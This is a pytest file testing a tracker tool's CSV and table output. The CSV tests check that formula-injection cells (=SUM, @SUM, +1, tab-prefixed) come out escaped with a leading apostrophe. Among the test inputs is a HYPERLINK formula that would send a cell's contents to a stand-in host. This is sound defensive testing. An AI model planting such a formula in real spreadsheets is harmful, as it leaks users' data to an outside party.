"""Lists as CSV: what a spreadsheet makes of their cells; and as tables: what gives way where room is short."""

import csv
import io
from typing import Any

import pytest

from tracker.cli.rows import Column, Format, field, show
from tracker.exchange import csv_tables
from tracker.exchange.columns import Holds


def listed(capsys: pytest.CaptureFixture[str], value: Any) -> str:
    assert show([{"id": "a1", "value": value}], (), Format.csv) == 1
    ((_, cell),) = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    return cell


@pytest.mark.parametrize("text", ["=SUM(A1:A9)", '=HYPERLINK("https://x.example/?"&A1)', "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "'=1"])
def test_no_cell_of_a_list_begins_as_a_formula(capsys: pytest.CaptureFixture[str], text: str) -> None:
    assert listed(capsys, text) == f"'{text}" == csv_tables.cell(text, Holds.text)


@pytest.mark.parametrize(
    ("value", "cell"), [(-12, "-12"), (-0.5, "-0.5"), (12, "12"), ("12 - 14", "12 - 14"), (None, ""), (["=1"], '["=1"]')]
)
def test_numbers_and_other_words_are_as_they_are(capsys: pytest.CaptureFixture[str], value: Any, cell: str) -> None:
    assert listed(capsys, value) == cell


@pytest.mark.parametrize("width", [58, 70, 80, 200])
def test_a_table_breaks_no_date_and_no_id_and_cuts_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    row = {"day": "2031-05-01\n2031-05-09", "who": "Ardland Health Ministry", "id": "0123abcd", "what": "people killed in Ardmere " * 3}
    columns = [
        Column("day", lambda row: row["day"], least=10),
        Column("who", lambda row: row["who"], least=12),
        *(field("what", wide=True) for _ in range(2)),
        Column("as of", lambda row: row["day"], least=10),
        Column("id", lambda row: row["id"], least=8),
    ]
    assert show([row], columns, Format.table) == 1
    words = capsys.readouterr().out.split()
    assert [words.count(word) for word in ("2031-05-01", "2031-05-09", "0123abcd")] == [2, 2, 1]
